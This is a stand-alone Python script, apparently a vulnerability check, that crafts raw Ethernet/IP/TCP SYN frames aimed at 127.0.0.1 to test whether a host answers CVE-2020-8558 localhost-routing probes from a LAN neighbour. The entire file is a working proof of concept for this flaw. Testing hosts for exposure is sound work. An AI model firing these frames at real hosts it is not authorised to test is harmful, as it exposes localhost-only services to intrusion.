"""Craft the CVE-2020-8558 frame and report whether anything answers (stand-alone, stdlib only).

A LAN neighbour sends an Ethernet frame to the host's MAC whose IPv4 destination is 127.0.0.1.
A host with route_localnet=1 and a DNAT rule matching any interface answers it (Docker < 28,
Kubernetes before the fix). The frame is built by hand (Ethernet + IPv4 + TCP SYN, real
checksums) and sent on an AF_PACKET socket; a second AF_PACKET socket, opened before sending,
listens ~1.5 s for TCP coming back to our source port.

Run inside a namespace (`nsenter --net=... python spoof.py --ifname eth0 --dst-mac M
--dst-ip 127.0.0.1 --dport 8090`); prints JSON {"answered": bool, "flags": "SA"|"R"|..., ...}.
The same frame sent to a published address is the control: it must get a SYN-ACK.
"""

from __future__ import annotations

import argparse
import json
import random
import select
import socket
import struct
import time

ETH_P_IP = 0x0800
ETH_P_IPV6 = 0x86DD
ETH_P_ALL = 0x0003
TCP_FLAGS = {0x01: "F", 0x02: "S", 0x04: "R", 0x08: "P", 0x10: "A", 0x20: "U"}


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac_bytes(mac: str) -> bytes:
    return bytes(int(part, 16) for part in mac.split(":"))


def tcp_syn(src_ip: str, dst_ip: str, sport: int, dport: int, seq: int) -> bytes:
    """A TCP SYN segment (with an MSS option) and its pseudo-header checksum."""
    options = struct.pack("!BBH", 2, 4, 1460)
    offset = (20 + len(options)) // 4
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, offset << 4, 0x02, 64240, 0, 0)
    segment = header + options
    if ":" in dst_ip:  # the IPv6 pseudo-header (RFC 8200 8.1)
        pseudo = socket.inet_pton(socket.AF_INET6, src_ip) + socket.inet_pton(
            socket.AF_INET6, dst_ip
        )
        pseudo += struct.pack("!I3xB", len(segment), socket.IPPROTO_TCP)
    else:
        pseudo = socket.inet_aton(src_ip) + socket.inet_aton(dst_ip)
        pseudo += struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    csum = checksum(pseudo + segment)
    return segment[:16] + struct.pack("!H", csum) + segment[18:]


def ipv4(src_ip: str, dst_ip: str, payload: bytes, ident: int) -> bytes:
    header = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(payload),
        ident,
        0x4000,  # don't fragment
        64,
        socket.IPPROTO_TCP,
        0,
        socket.inet_aton(src_ip),
        socket.inet_aton(dst_ip),
    )
    csum = checksum(header)
    return header[:10] + struct.pack("!H", csum) + header[12:] + payload


def ipv6(src_ip: str, dst_ip: str, payload: bytes) -> bytes:
    header = struct.pack("!IHBB", 6 << 28, len(payload), socket.IPPROTO_TCP, 64)
    header += socket.inet_pton(socket.AF_INET6, src_ip) + socket.inet_pton(socket.AF_INET6, dst_ip)
    return header + payload


def frame(src_mac: str, dst_mac: str, src_ip: str, dst_ip: str, sport: int, dport: int) -> bytes:
    """Ethernet + IPv4 (or IPv6, for an IPv6 dst_ip) + TCP SYN, ready for an AF_PACKET socket."""
    seq = random.randrange(1 << 32)
    segment = tcp_syn(src_ip, dst_ip, sport, dport, seq)
    if ":" in dst_ip:
        packet, ethertype = ipv6(src_ip, dst_ip, segment), ETH_P_IPV6
    else:
        packet, ethertype = ipv4(src_ip, dst_ip, segment, sport), ETH_P_IP
    return mac_bytes(dst_mac) + mac_bytes(src_mac) + struct.pack("!H", ethertype) + packet


def parse_tcp6(raw: bytes) -> tuple[str, str, int, int, str] | None:
    """The same for an Ethernet/IPv6/TCP frame (no extension headers: a SYN-ACK has none)."""
    ip = raw[14:]
    if len(ip) < 40 + 14 or ip[6] != socket.IPPROTO_TCP:
        return None
    sport, dport = struct.unpack("!HH", ip[40:44])
    bits = ip[40 + 13]
    flags = "".join(name for bit, name in TCP_FLAGS.items() if bits & bit)
    src = socket.inet_ntop(socket.AF_INET6, ip[8:24])
    return src, socket.inet_ntop(socket.AF_INET6, ip[24:40]), sport, dport, flags


def parse_tcp(raw: bytes) -> tuple[str, str, int, int, str] | None:
    """(src ip, dst ip, sport, dport, flags) of an Ethernet/IPv4/TCP frame, else None."""
    if len(raw) >= 14 and struct.unpack("!H", raw[12:14])[0] == ETH_P_IPV6:
        return parse_tcp6(raw)
    if len(raw) < 34 or struct.unpack("!H", raw[12:14])[0] != ETH_P_IP:
        return None
    ip = raw[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] != socket.IPPROTO_TCP or len(ip) < ihl + 14:
        return None
    sport, dport = struct.unpack("!HH", ip[ihl : ihl + 4])
    bits = ip[ihl + 13]
    flags = "".join(name for bit, name in TCP_FLAGS.items() if bits & bit)
    return socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20]), sport, dport, flags


def probe(
    ifname: str, dst_mac: str, dst_ip: str, dport: int, src_ip: str = "", timeout: float = 1.5
) -> dict[str, object]:
    """Send one crafted SYN out of ifname; report the TCP that comes back to our port."""
    listen = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    ethertype = ETH_P_IPV6 if ":" in dst_ip else ETH_P_IP
    send = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ethertype))
    try:
        listen.bind((ifname, ETH_P_ALL))
        send.bind((ifname, ethertype))
        src_mac = ":".join(f"{b:02x}" for b in send.getsockname()[4][:6])
        if not src_ip:
            src_ip = own_ipv6(ifname) if ethertype == ETH_P_IPV6 else own_ipv4(ifname)
        sport = random.randrange(20000, 60000)
        send.send(frame(src_mac, dst_mac, src_ip, dst_ip, sport, dport))
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            ready, _, _ = select.select([listen], [], [], left)
            if not ready:
                break
            raw, addr = listen.recvfrom(65535)
            if addr[2] == socket.PACKET_OUTGOING:
                continue
            tcp = parse_tcp(raw)
            if tcp is not None and tcp[3] == sport:
                return {"answered": True, "flags": tcp[4], "from": f"{tcp[0]}:{tcp[2]}"}
        return {"answered": False, "flags": "", "from": ""}
    finally:
        listen.close()
        send.close()


def own_ipv4(ifname: str) -> str:
    """ifname's IPv4 address (SIOCGIFADDR): works where /sys shows another namespace."""
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        req = struct.pack("256s", ifname.encode()[:15])
        return socket.inet_ntoa(fcntl.ioctl(s.fileno(), 0x8915, req)[20:24])


def own_ipv6(ifname: str) -> str:
    """ifname's first global IPv6 address, from this namespace's /proc/net/if_inet6."""
    with open("/proc/net/if_inet6") as fh:
        for line in fh:
            hexaddr, _idx, _plen, scope, _flags, name = line.split()
            if name == ifname and scope == "00":
                return socket.inet_ntop(socket.AF_INET6, bytes.fromhex(hexaddr))
    raise SystemExit(f"{ifname} has no global IPv6 address")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--ifname", required=True)
    parser.add_argument("--dst-mac", required=True)
    parser.add_argument("--dst-ip", required=True)
    parser.add_argument("--dport", type=int, required=True)
    parser.add_argument("--src-ip", default="")
    parser.add_argument("--timeout", type=float, default=1.5)
    args = parser.parse_args()
    result = probe(args.ifname, args.dst_mac, args.dst_ip, args.dport, args.src_ip, args.timeout)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
